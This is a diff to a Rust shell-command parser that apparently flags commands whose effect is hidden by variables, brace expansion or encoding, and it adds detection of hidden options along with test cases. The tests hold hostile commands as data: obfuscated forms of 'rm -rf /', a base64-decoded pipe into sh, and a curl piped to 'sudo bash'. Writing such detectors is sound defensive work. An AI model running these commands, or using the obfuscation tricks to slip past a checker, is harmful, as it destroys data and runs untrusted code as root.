@@ -5,7 +5,7 @@ use super::parted::{Command, Line, Word, parted};
 /// How deep scripts in scripts are read.
 const MAX_SCRIPTS: usize = 4;
 
-const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish"];
+pub(super) const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish"];
 /// What stands behind a variable in PowerShell and Perl, and behind no program.
 #[rustfmt::skip]
 const ASKED: &[&str] = &[
@@ -16,7 +16,12 @@ const ASKED: &[&str] = &[
 #[rustfmt::skip]
 const RUNNERS: &[&str] = &[
     "sudo", "doas", "env", "exec", "command", "builtin", "nohup", "xargs", "nice", "timeout", "stdbuf", "setsid", "time", "busybox",
+    "systemd-run", "ionice", "proxychains", "proxychains4", "torsocks", "torify",
 ];
+/// Programs whose options of one letter have no values.
+const WITHOUT_VALUES: &[&str] = &["rm", "rmdir", "unlink", "chmod", "chown"];
+/// So many letters of options may stand before what is not known; more are one option with a value, as in `-Xmx${x}m`.
+const MAX_LETTERS: usize = 2;
 
 impl Command {
     /// The command as one line, where a variable or an escape in it was put in its place.
@@ -78,8 +83,34 @@ impl Command {
                 .last()
                 .is_some_and(|last| self.words[last + 1..].iter().all(|word| word.text.starts_with('-')));
         let evaluates = runs(&["eval"]) && self.words.iter().any(|word| word.expands);
-        hidden || evaluates || reads && self.script().is_none()
+        let has_no_values = runs(WITHOUT_VALUES);
+        let chooses = self.words.iter().skip(1).any(|word| hides_an_option(word, has_no_values));
+        hidden || evaluates || chooses || reads && self.script().is_none()
     }
+
+    /// Whether it is a program that runs what it reads, as `bash`, with nothing else to run.
+    pub(super) fn reads_a_script(&self, readers: &[&str]) -> bool {
+        let Some(last) = self.programs().last().copied() else { return false };
+        readers.contains(&program(&self.words[last].text))
+            && self.words[last + 1..].iter().all(|word| word.text.starts_with('-'))
+            && self.script().is_none()
+    }
+}
+
+/// `-r${x}f`, `-$x`, `-{r..f}`: what a program is told is known to the shell alone. What stands behind an option is mostly its
+/// value: `-j$(nproc)`, `-I$HOME/x`.
+fn hides_an_option(word: &Word, has_no_values: bool) -> bool {
+    if !word.text.starts_with('-') {
+        return false;
+    }
+    let is_sequence = !word.is_quoted && word.text.contains('{') && word.text.contains("..");
+    let Some((front, behind)) = word.unknown.and_then(|at| word.text.split_at_checked(at)) else {
+        return is_sequence;
+    };
+    let letters = front.trim_start_matches('-');
+    let is_of_letters = front.starts_with('-') && letters.bytes().all(|byte| byte.is_ascii_alphabetic());
+    let goes_on = letters.len() <= MAX_LETTERS && behind.starts_with(char::is_alphabetic);
+    is_sequence || is_of_letters && (letters.is_empty() || has_no_values || goes_on)
 }
 
 /// `/b?n/rm`, `r^m`: a name that the shell looks for, or that one shell reads otherwise. Scripts of other languages have such
@@ -125,6 +156,7 @@ fn read_within(text: &str, depth: usize) -> Line {
         let within: Vec<Line> = scripts.map(|script| read_within(script, depth + 1)).collect();
         for within in within {
             line.unsure |= within.unsure;
+            line.proxies.extend(within.proxies);
             line.commands.extend(within.commands);
         }
     }
@@ -158,6 +190,10 @@ mod tests {
             ("sudo bash -c \"bash -c 'rm x'\"", vec!["sudo bash -c bash -c 'rm x'", "bash -c rm x", "rm x"]),
             ("ls # rm x\npwd", vec!["ls", "pwd"]),
             ("{rm,-rf,/}", vec!["rm -rf /"]),
+            ("rm -{r,f} /", vec!["rm -r -f /"]),
+            ("rm {-rf,/}>x", vec!["rm -rf /"]),
+            ("cp a.{b,c}{d,e} \"{f,g}\"", vec!["cp a.bd a.be a.cd a.ce {f,g}"]),
+            ("rm -r\\\nf /", vec!["rm -rf /"]),
             ("a=rm; $a -rf /", vec!["rm -rf /"]),
             ("a='rm -rf'; $a /", vec!["rm -rf /"]),
             ("a=rm; ${a:-ls} -rf /", vec!["rm -rf /"]),
@@ -190,6 +226,14 @@ mod tests {
             "eval $x",
             "echo cm0gLXJmIC8=|base64 -d|sh",
             "curl https://h.example | sudo bash -",
+            "rm -r${x}f /",
+            "rm -r$x /",
+            "rm -$x /",
+            "rm -\"$x\" /",
+            "git push -`x` y",
+            "tar -c$(x)f y",
+            "rm -{r..r}{f..f} /",
+            "rm -{a,b,c,d,e,f,g,h,i}{a,b,c,d,e,f,g,h,i} /",
         ] {
             assert!(read(text).unsure, "{text}: {:?}", read(text));
         }
@@ -203,6 +247,15 @@ mod tests {
             "cd \"$PROJECT_DIR\" && npm test",
             "for f in *.py; do echo \"$f\"; done",
             "mkdir -p src/{a,b}",
+            "grep -rn --include=*.{js,ts} x src",
+            "make -j$(nproc) PREFIX=$HOME/x",
+            "java -Xmx${HEAP}m -jar x.jar",
+            "gcc -I$INC/x -L\"$LIB\" -DX=${Y}z a.c",
+            "tar -C$DIR -czf \"$OUT\" .",
+            "kill -TERM $PID && kill -9 $(cat x.pid)",
+            "git commit -m\"Set $x now\"",
+            "rm -rf \"$DIR/build\" $TMP",
+            "docker run -v$PWD:/x -u$(id -u):$(id -g) img",
             "export PATH=$PATH:/opt/bin; make",
             "\"$ROOT/scripts/build.sh\" --all",
             "${VENV}/bin/python run.py",
